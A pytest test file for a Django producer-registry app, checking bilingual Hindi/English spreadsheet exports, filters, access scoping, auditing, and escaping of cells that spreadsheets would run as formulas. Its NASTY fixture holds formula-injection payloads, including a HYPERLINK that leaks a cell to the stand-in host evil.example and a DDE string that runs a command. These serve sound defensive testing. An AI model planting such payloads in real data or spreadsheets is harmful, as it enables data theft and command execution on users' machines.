"""Producer lists as spreadsheets: the list's filters and scope, Hindi and English headers, and
cells that a spreadsheet can never run as formulas."""

from __future__ import annotations

import io
import zipfile

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from niryat.core.models import AuditEntry
from niryat.registry import import_views
from niryat.registry.actions import do_erase_producer
from niryat.registry.models import Activity, ImportJob, Kind, Producer
from niryat.registry.spreadsheets import escape_cell, export_header, unescape_cell
from tests.conftest import client_for
from tests.registry.factories import register
from tests.registry.fixtures.sheets import import_file, read_csv, read_xlsx


@pytest.fixture(autouse=True)
def media(settings, tmp_path):  # type: ignore[no-untyped-def]
    settings.MEDIA_ROOT = tmp_path


@pytest.fixture
def producers(gorakhpur, ganesh, varanasi, vani):  # type: ignore[no-untyped-def]
    ramu = register(
        gorakhpur,
        ganesh,
        name_hi="रामू प्रजापति",
        mobile="+919800000001",
        gender="male",
        social_category="obc",
        bank_account="123456789012",
        aadhaar="0123",
    )
    ramu.activities.set(Activity.objects.filter(code__in=["pottery", "firing"]))
    register(
        gorakhpur,
        ganesh,
        name_hi="लक्ष्मी समूह",
        kind=Kind.SHG,
        women_led=True,
        pin="273158",
        village="Bhathat",
        mobile="+919800000002",
    )
    register(varanasi, vani, name_hi="कबीर अंसारी", pin="221001", village="Lallapura")
    return ramu


def download(client, url: str) -> bytes:  # type: ignore[no-untyped-def]
    response = client.get(url)
    assert response.status_code == 200, response.content[:500]
    return b"".join(response.streaming_content)


def test_staff_download_their_districts_producers_as_xlsx(ganesh, producers):
    response = client_for(ganesh).get("/producers/export.xlsx")
    today = timezone.localdate().strftime("%Y-%m-%d")
    assert response["Content-Disposition"] == f'attachment; filename="producers-{today}.xlsx"'
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    rows = read_xlsx(b"".join(response.streaming_content))
    assert rows[0] == export_header()
    assert rows[0][:3] == [
        "प्रकार / Kind",
        "नाम (हिन्दी) / Name (Hindi)",
        "नाम (अंग्रेज़ी) / Name (English)",
    ]
    assert rows[0][-6:] == [
        "आधार (अंतिम 4 अंक) / Aadhaar (last 4 digits)",
        "जनपद / District",
        "चरण / Stage",
        "लिस्टिंग की सहमति / Listing consent",
        "पंजीकरण की तिथि / Registered on",
        "पहचान संख्या / ID",
    ]
    assert [r[1] for r in rows[1:]] == ["लक्ष्मी समूह", "रामू प्रजापति"]
    ramu = dict(zip(rows[0], rows[2], strict=True))
    assert ramu == {
        "प्रकार / Kind": "Artisan",
        "नाम (हिन्दी) / Name (Hindi)": "रामू प्रजापति",
        "नाम (अंग्रेज़ी) / Name (English)": "Ramu Prajapati",
        "लिंग / Gender": "Man",
        "महिला नेतृत्व वाली / Women-led": "No",
        "सामाजिक वर्ग / Social category": "Other Backward Class",
        "ओडीओपी उत्पाद / ODOP product": "Readymade garments",
        "गतिविधियाँ / Activities": "Kiln firing, Pottery and moulding",
        "गाँव या कस्बा / Village or town": "Aurangabad",
        "तहसील / Tehsil": None,
        "पिन कोड / PIN code": "273001",
        # a leading + would make a spreadsheet compute the number: it is escaped
        "मोबाइल / Mobile": "'+919800000001",
        "ईमेल / Email": None,
        "बैंक आईएफएससी / Bank IFSC": None,
        "बैंक खाता (अंतिम 4 अंक) / Bank account (last 4 digits)": "XXXXXXXX9012",
        "जीएसटीआईएन / GSTIN": None,
        "पैन / PAN": None,
        "आईईसी / IEC": None,
        "उद्यम पंजीकरण संख्या / Udyam number": None,
        "आधार (अंतिम 4 अंक) / Aadhaar (last 4 digits)": "0123",
        "जनपद / District": "Gorakhpur",
        "चरण / Stage": "Contacted",
        "लिस्टिंग की सहमति / Listing consent": "No",
        "पंजीकरण की तिथि / Registered on": timezone.localdate().strftime("%d/%m/%Y"),
        "पहचान संख्या / ID": str(producers.uuid),
    }


def test_csv_export_is_utf8_for_excel_with_hindi(ganesh, producers):
    rows = read_csv(download(client_for(ganesh), "/producers/export.csv"))
    assert rows[0] == export_header()
    assert [r[1] for r in rows[1:]] == ["लक्ष्मी समूह", "रामू प्रजापति"]


def test_choices_and_names_follow_the_users_language(ganesh, producers):
    rows = read_xlsx(
        download(client_for(ganesh, **{"accept-language": "hi"}), "/producers/export.xlsx")
    )
    ramu = dict(zip(rows[0], rows[2], strict=True))
    assert ramu["जनपद / District"] == "गोरखपुर"
    assert ramu["ओडीओपी उत्पाद / ODOP product"] == "रेडीमेड वस्त्र"
    assert ramu["गतिविधियाँ / Activities"] == "भट्ठी में पकाना, मिट्टी के बर्तन बनाना"


NASTY = {
    "name_latin": '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your subsidy")',
    "village": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tehsil": "-2+3",
    "email": "+ramu@example.org",
}


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_cells_a_spreadsheet_would_run_are_escaped(ganesh, gorakhpur, fmt):
    # given a producer whose details were typed (or imported) as formulas
    register(gorakhpur, ganesh, name_hi="रामू", mobile="+919800000001", **NASTY)
    # when his district's list is exported
    content = download(client_for(ganesh), f"/producers/export.{fmt}")
    rows = read_xlsx(content) if fmt == "xlsx" else read_csv(content)
    ramu = dict(zip(rows[0], rows[1], strict=True))
    # then every such cell starts with an apostrophe, and so is shown as text, not run
    assert ramu["नाम (अंग्रेज़ी) / Name (English)"] == "'" + NASTY["name_latin"]
    assert ramu["गाँव या कस्बा / Village or town"] == "'" + NASTY["village"]
    assert ramu["तहसील / Tehsil"] == "'-2+3"
    assert ramu["ईमेल / Email"] == "'+ramu@example.org"
    assert ramu["मोबाइल / Mobile"] == "'+919800000001"
    if fmt == "xlsx":
        # and the workbook holds no formula at all
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            xml = archive.read("xl/worksheets/sheet1.xml")
        assert b"<f>" not in xml
        assert b't="inlineStr"><is><t>\'=HYPERLINK' in xml


@pytest.mark.parametrize(
    ("value", "escaped"),
    [
        ("=1+1", "'=1+1"),
        ("+91 98", "'+91 98"),
        ("-5", "'-5"),
        ("@A1", "'@A1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ramu = Ram", "Ramu = Ram"),
        ("'quoted", "'quoted"),
        ("", ""),
        (None, ""),
        (273001, "273001"),
    ],
)
def test_escape_cell(value, escaped):
    assert escape_cell(value) == escaped
    if isinstance(value, str):
        assert unescape_cell(escaped) == value


def test_the_list_filters_apply(ganesh, producers):
    client = client_for(ganesh)
    for query, names in [
        ("kind=shg", ["लक्ष्मी समूह"]),
        ("women_led=yes", ["लक्ष्मी समूह"]),
        ("q=Ramu", ["रामू प्रजापति"]),
        ("q=रामू", ["रामू प्रजापति"]),
        ("activity=pottery", ["रामू प्रजापति"]),
        ("stage=exporting", []),
    ]:
        rows = read_csv(download(client, f"/producers/export.csv?{query}"))
        assert [r[1] for r in rows[1:]] == names, query


@pytest.mark.parametrize(
    ("persona", "names"),
    [
        ("ganesh", ["लक्ष्मी समूह", "रामू प्रजापति"]),
        ("gita", ["लक्ष्मी समूह", "रामू प्रजापति"]),
        ("vani", ["कबीर अंसारी"]),
        ("alice", ["कबीर अंसारी", "लक्ष्मी समूह", "रामू प्रजापति"]),
        ("sam", ["कबीर अंसारी", "लक्ष्मी समूह", "रामू प्रजापति"]),
    ],
)
def test_exports_are_scoped_like_the_list(request, producers, persona, names):
    client = client_for(request.getfixturevalue(persona))
    rows = read_csv(download(client, "/producers/export.csv"))
    assert sorted(r[1] for r in rows[1:]) == sorted(names)
    rows = read_csv(download(client, "/producers/export.csv?district=187"))
    assert [r[1] for r in rows[1:]] == [n for n in names if n == "कबीर अंसारी"]


def test_producers_cannot_export_the_list(prem, producers):
    client = client_for(prem)
    assert client.get("/producers/export.xlsx").status_code == 403
    assert client.get("/producers/export.csv").status_code == 403


def test_erased_producers_are_not_exported(ganesh, producers):
    do_erase_producer(producers, acting_user=ganesh)
    rows = read_csv(download(client_for(ganesh), "/producers/export.csv"))
    assert [r[1] for r in rows[1:]] == ["लक्ष्मी समूह"]


def test_an_export_needs_the_same_queries_for_3_or_30_producers(ganesh, gorakhpur, producers):
    client = client_for(ganesh)
    client.get("/")  # the session and language, once

    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            download(client, "/producers/export.xlsx")
        return len(captured)

    few = queries()
    for number in range(27):
        register(gorakhpur, ganesh, name_hi=f"कारीगर {number}", mobile=f"+9198000001{number:02d}")
    assert queries() == few


def test_an_export_imports_back_without_changing_anything(ganesh, producers):
    client = client_for(ganesh)
    for fmt in ("xlsx", "csv"):
        job = import_file(client, f"export.{fmt}", download(client, f"/producers/export.{fmt}"))
        assert job.status == ImportJob.Status.DONE, job.errors
        assert (job.created_count, job.unchanged_count, job.error_rows) == (0, 2, 0)
    assert Producer.objects.count() == 3


def test_an_export_too_big_for_excel_points_to_csv(ganesh, producers, monkeypatch):
    monkeypatch.setattr(import_views, "XLSX_EXPORT_MAX_ROWS", 1)
    response = client_for(ganesh).get("/producers/export.xlsx")
    assert response.status_code == 400
    assert (
        "2 producers match; an Excel export holds up to 1. Choose a district or other filters, "
        "or download CSV."
    ) in response.content.decode()
    assert client_for(ganesh).get("/producers/export.csv").status_code == 200


@pytest.mark.parametrize("fmt", ["xlsx", "csv"])
def test_each_download_of_the_producer_list_is_audited(ganesh, gorakhpur, producers, fmt):
    download(client_for(ganesh), f"/producers/export.{fmt}?district=148&kind=artisan&q=")
    entry = AuditEntry.objects.get(action="producer.list_export")
    assert (entry.actor, entry.district, entry.object_type, entry.object_id) == (
        ganesh,
        gorakhpur,
        "registry.producer",
        "",
    )
    expected = Producer.objects.filter(district=gorakhpur, kind="artisan").count()
    assert entry.changes == {
        "format": fmt,
        "filters": {"district": "148", "kind": "artisan", "q": ""},
        "count": expected,
    }
